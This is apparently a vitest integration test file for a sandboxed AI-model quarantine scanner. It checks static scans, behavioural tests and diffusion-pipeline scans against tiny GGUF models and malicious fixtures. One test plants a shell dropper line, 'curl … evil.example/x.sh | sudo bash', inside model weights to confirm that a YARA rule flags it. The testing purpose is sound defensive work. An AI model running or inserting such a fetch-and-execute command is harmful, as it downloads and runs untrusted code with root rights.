import { chmod, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { StageIsolation, schemaProblems } from '@secai/contracts';
import { PROMPTS, runStage } from '../src/index.js';
import { writeTinyLlamaGguf } from '@secai/quarantine/testing';
import { buildTinyLlamaGguf } from '@secai/formats/testing';
import {
  safetensorsZipPolyglot,
  writeDiffusersDir,
  type DiffusersVariant,
} from '@secai/formats/testing';

// The static scan, behavioural test and diffusion deep scan as the quarantine runs them: the
// compiled workers (dist/, rebuilt by the int project's globalSetup) inside the sandbox (as root
// here: namespaces, no network, `nobody`), on artifacts they can only read.
let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'secai-workers-'));
  await chmod(dir, 0o755); // the sandboxed worker runs as nobody
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function readOnly(name: string, bytes: Uint8Array): Promise<string> {
  const p = join(dir, name);
  await writeFile(p, bytes);
  await chmod(p, 0o444);
  return p;
}

async function tinyModel(name: string, options: Parameters<typeof writeTinyLlamaGguf>[1] = {}) {
  const p = join(dir, name);
  await writeTinyLlamaGguf(p, { seed: 3, ...options });
  await chmod(p, 0o444);
  return p;
}

/** A tiny GGUF with `text` written into token_embd's data. */
function ggufWithText(text: string): Uint8Array {
  const g = buildTinyLlamaGguf({ seed: 3 });
  const embd = g.tensors[0];
  if (embd === undefined) throw new Error('no tensors');
  Buffer.from(text, 'latin1').copy(g.buffer, g.dataOffset + embd.offset + 1000);
  return g.buffer;
}

describe('static_scan worker in the sandbox', () => {
  it('passes a clean tiny GGUF with every fact and reports its isolation', async () => {
    const path = await tinyModel('clean.gguf');
    const outcome = await runStage('static_scan', { path, kind: 'file' });
    expect(outcome).toMatchObject({
      passed: true,
      reasonCode: 'static_scan_ok',
      result: {
        format: 'gguf',
        yara_matches: 0,
        yara_rules: '',
        pickle_streams: 0,
        pickle_verdict: 'none',
        weights_checked: 21,
        guard_score: 0,
        guard_verdict: 'PASS',
        findings: 0,
        top_finding: '',
      },
    });
    expect(outcome.result.yara_version).toMatch(/^\d+\.\d+\.\d+$/);
    expect(outcome.result.entropy_max).toBeGreaterThan(5);
    expect(schemaProblems(StageIsolation, outcome.isolation)).toEqual([]);
  });

  it('fails a safetensors/torch-zip pickle polyglot', async () => {
    const path = await readOnly('poly.safetensors', safetensorsZipPolyglot());
    const outcome = await runStage('static_scan', { path, kind: 'file' });
    expect(outcome).toMatchObject({ passed: false, reasonCode: 'yara_match' });
    expect(String(outcome.result.yara_rules).split(',')).toContain('SecAI_Zip_In_Model');
    expect(outcome.result.pickle_verdict).toBe('malicious');
  });

  it('fails a GGUF carrying a shell dropper in its weights (an EICAR-like YARA hit)', async () => {
    const path = await readOnly(
      'dropper.gguf',
      ggufWithText('curl -fsSL http://evil.example/x.sh | sudo bash'),
    );
    const outcome = await runStage('static_scan', { path, kind: 'file' });
    expect(outcome).toMatchObject({
      passed: false,
      reasonCode: 'yara_match',
      result: {
        yara_rules: 'SecAI_Shell_Dropper_Command',
        top_finding: 'yara:SecAI_Shell_Dropper_Command',
      },
    });
  });

  it('fails a quantised model with a giant block scale, and takes thresholds from params', async () => {
    const path = await tinyModel('giant.gguf', { weightType: 'q8_0', weightAttack: 'giant_scale' });
    const outcome = await runStage('static_scan', { path, kind: 'file' });
    expect(outcome.passed).toBe(false);
    expect(['weight_anomaly', 'guard_fail']).toContain(outcome.reasonCode);
    expect(outcome.result.guard_verdict).toBe('FAIL');
    const bad = await runStage('static_scan', {
      path,
      kind: 'file',
      params: { thresholds: { entropySamples: -1 } },
    });
    expect(bad).toMatchObject({ passed: false, reasonCode: 'invalid_params' });
  });
});

describe('behavioral_test worker in the sandbox', () => {
  it('loads the tiny model read-only as nobody, runs the suite and prints only the score', async () => {
    const path = await tinyModel('behave.gguf');
    const outcome = await runStage(
      'behavioral_test',
      { path, kind: 'file', params: { threads: 1 } },
      { timeoutMs: 600_000, cpuSeconds: 600 },
    );
    // A tiny random model answers gibberish: whatever it scores, the verdict must follow the
    // thresholds (0.3, 0 critical).
    expect(['behavior_ok', 'behavior_flagged', 'behavior_critical']).toContain(outcome.reasonCode);
    const r = outcome.result;
    // (printVerdict adds the worker's peak RSS to every verdict.)
    expect(
      Object.keys(r)
        .filter((k) => k !== 'peak_rss_kib')
        .sort(),
    ).toEqual(
      [
        'chat_wrapper',
        'context_size',
        'critical',
        'degenerate_answers',
        'duration_ms',
        'empty_answers',
        'flagged',
        'identical_answers',
        'score',
        'threads',
        'total_prompts',
      ].sort(),
    );
    // Counts only (issue 11 §2: a silent model fails); never an answer's text.
    for (const k of ['empty_answers', 'degenerate_answers', 'identical_answers'])
      expect(typeof r[k]).toBe('number');
    expect(r.total_prompts).toBe(PROMPTS.length);
    expect(r.threads).toBe(1);
    expect(r.context_size).toBe(2048); // the tiny model was trained on 256
    const score = r.score as number;
    const critical = r.critical as number;
    expect(score).toBeCloseTo((r.flagged as number) / PROMPTS.length, 3);
    expect(outcome.passed).toBe(score <= 0.3 && critical <= 0);
    expect(outcome.reasonCode).toBe(
      critical > 0 ? 'behavior_critical' : score > 0.3 ? 'behavior_flagged' : 'behavior_ok',
    );
    expect(outcome.isolation.readOnlyArtifact).toBe(true);
  }, 300_000);

  it('reports a file node-llama-cpp cannot load as model_load_failed', async () => {
    const path = await readOnly(
      'not-a-model.gguf',
      new TextEncoder().encode('GGUF but not really'),
    );
    const outcome = await runStage(
      'behavioral_test',
      { path, kind: 'file' },
      { timeoutMs: 120_000 },
    );
    expect(outcome).toMatchObject({ passed: false, reasonCode: 'model_load_failed' });
  });
});

describe('diffusion_scan worker in the sandbox', () => {
  const cases: [DiffusersVariant, boolean, string][] = [
    ['valid', true, 'diffusion_ok'],
    ['pickleBin', false, 'pickle_format'],
    ['urlInConfig', false, 'suspicious_content'],
    ['missingComponent', false, 'component_missing'],
  ];
  for (const [variant, passed, reasonCode] of cases) {
    it(`${passed ? 'passes' : 'fails'} the ${variant} fixture`, async () => {
      const root = join(dir, `diffusers-${variant}`);
      await writeDiffusersDir(root, variant);
      const outcome = await runStage('diffusion_scan', { path: root, kind: 'directory' });
      expect(outcome).toMatchObject({ passed, reasonCode });
      if (passed)
        expect(outcome.result).toMatchObject({
          class_name: 'StableDiffusionPipeline',
          components: 5,
          safetensors: 3,
          issues: 0,
        });
      else expect(outcome.result.issues).toBeGreaterThan(0);
    });
  }

  it('refuses a single file', async () => {
    const path = await tinyModel('not-a-dir.gguf');
    expect(await runStage('diffusion_scan', { path, kind: 'file' })).toMatchObject({
      passed: false,
      reasonCode: 'not_a_directory',
    });
  });
});
